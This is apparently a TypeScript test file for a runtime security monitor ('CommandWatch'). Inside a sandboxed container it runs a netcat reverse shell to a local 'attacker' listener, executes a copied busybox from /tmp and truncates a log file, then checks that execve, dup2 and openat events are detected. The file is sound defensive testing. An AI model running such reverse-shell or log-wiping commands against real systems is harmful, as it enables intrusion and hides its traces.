import { once } from 'node:events';
import { createServer, type AddressInfo } from 'node:net';
import type { SystemEvent } from '../../events/SystemEvent';
import { waitUntil } from '../../../testing/waitUntil';
import { CriuTestNode } from '../testing/CriuTestNode';
import { describeWithCriu } from '../testing/describeWithCriu';

describeWithCriu('CommandWatch', () => {
  let node: CriuTestNode;

  beforeAll(async () => {
    node = await CriuTestNode.create('10.251.1');
  });

  afterAll(() => node?.close());

  it('sees what commands execute, and where their streams lead', async () => {
    const { id, sandbox } = await node.run('counter');
    const events: SystemEvent[] = [];
    const stop = node.runtime.onSystemEvent(event => events.push(event));
    const calls = (type: string) =>
      events.filter(({ call }) => call.type === type);
    // What is too short may be missed, so everything lasts until it was seen.
    const attacker = createServer(async socket => {
      await waitUntil('its streams are seen', () => calls('dup2').length > 0);
      socket.end('exit\n');
    });
    attacker.listen(0, '0.0.0.0');
    await once(attacker, 'listening');
    const { port } = attacker.address() as AddressInfo;
    const gateway = sandbox.address.replace(/\d+$/, '1');
    const run = (script: string, program = '') => {
      const known = events.length;
      const isSeen = () =>
        events
          .slice(known)
          .some(({ process }) => process.executable.includes(program));
      return node.runtime.executeCommand(id, ['sh', '-c', script], {
        input: endWhen(isSeen),
        output: () => undefined,
        error: () => undefined,
      });
    };
    const copy = '/tmp/busybox';
    await run(`cp /bin/busybox ${copy}; ${copy} cat`, copy);
    await run(`nc ${gateway} ${port} -e /bin/sh`);
    await run('mkdir -p /var/log; echo line > /var/log/app.log');
    await run('cat; : > /var/log/app.log');
    stop();
    attacker.close();
    expect(events).toContainEqual(
      expect.objectContaining({
        process: expect.objectContaining({ executable: '/tmp/busybox' }),
        call: { type: 'execve', isAdded: true },
        container: expect.objectContaining({
          id,
          podName: sandbox.spec.podName,
        }),
      }),
    );
    expect(events.map(({ call }) => call)).toContainEqual(
      expect.objectContaining({
        type: 'dup2',
        descriptor: 0,
        connection: expect.objectContaining({ remotePort: port }),
      }),
    );
    expect(events.map(({ call }) => call)).toContainEqual(
      expect.objectContaining({ type: 'openat', path: '/var/log/app.log' }),
    );
  });
});

/** Input that says nothing, and ends. */
async function* endWhen(isSeen: () => boolean): AsyncGenerator<Buffer> {
  await waitUntil('it is seen', isSeen);
}
